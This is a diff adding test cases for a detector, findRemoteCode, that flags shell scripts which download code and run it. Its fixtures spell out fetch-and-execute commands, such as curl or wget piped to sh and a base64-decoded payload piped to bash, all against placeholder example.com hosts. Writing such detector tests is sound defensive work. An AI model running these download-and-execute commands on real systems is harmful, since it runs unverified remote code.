@@ -48,4 +48,42 @@ describe("code from the network", () => {
   it("gives the line on which the command begins", () => {
     assert.equal(findRemoteCode("#!/bin/sh\nset -e\ncurl https://x.example.com \\\n | sh\n")[0]?.line, 3);
   });
+
+  const started = "downloads a script and runs it unchecked";
+  const told: readonly (readonly [text: string, what: string, line: number])[] = [
+    ["true\ncurl -fsSL https://a.example.com | sh", "pipes what it downloads into an interpreter", 2],
+    ["echo Y3VybA== | base64 -d | bash", "decodes a script and runs it", 1],
+    ["#include https://x.example.com/init.sh", "includes a script from the network", 1],
+    ["curl -o /tmp/i https://x.example.com/i\ntrue\nsh /tmp/i", started, 3],
+    ["curl -O https://x.example.com/i.sh\n  sh i.sh", started, 2],
+    ["wget https://x.example.com/a/setup.sh?x=1#y\nbash setup.sh", started, 2],
+    ["wget --output-document=/opt/Setup https://x.example.com/a\n. /opt/setup", started, 2],
+    ['curl --output "/opt/a+b" https://x.example.com/a\n/opt/a+b', started, 2],
+    ["wget -O /opt/i https://x.example.com/a && source /opt/i", started, 1],
+    ["wget -O- https://x.example.com/i.sh > /dev/null\nbash i.sh", started, 2],
+    ["wget http://x.example.com/i.PY\npython3 -u ./i.py", started, 2],
+  ];
+  for (const [text, what, line] of told)
+    it(`tells of ${text.replace(/\n/g, "⏎").slice(0, 60)} what it does, and where`, () =>
+      assert.deepEqual(findRemoteCode(text), [{ what, line }]));
+
+  it("takes a whole script for a shell's where no line shows it", () => {
+    const [found, ...others] = findRemoteCode(
+      'URL=https://x.example.com/i\nrun() { sh -c "$(curl -s $URL)"; }\nrun\n',
+    );
+    assert.ok(found);
+    assert.deepEqual(others, []);
+  });
+
+  const none: readonly string[] = [
+    "curl -o /dev/null https://x.example.com/i.sh\nsh /opt/other",
+    "# curl -O https://x.example.com/i.sh\nsh other.sh",
+    "curl -O https://x.example.com/i.txt\ncat i.txt",
+    "curl -O https://x.example.com/i.sh\n# sh i.sh",
+    "curl -O https://x.example.com/i.sh\ncat i.sh",
+    "curl -O https://x.example.com/i.sh\nsh i.shx",
+  ];
+  for (const text of none)
+    it(`finds nothing in ${text.replace(/\n/g, "⏎").slice(0, 60)}`, () =>
+      assert.deepEqual(findRemoteCode(text), []));
 });
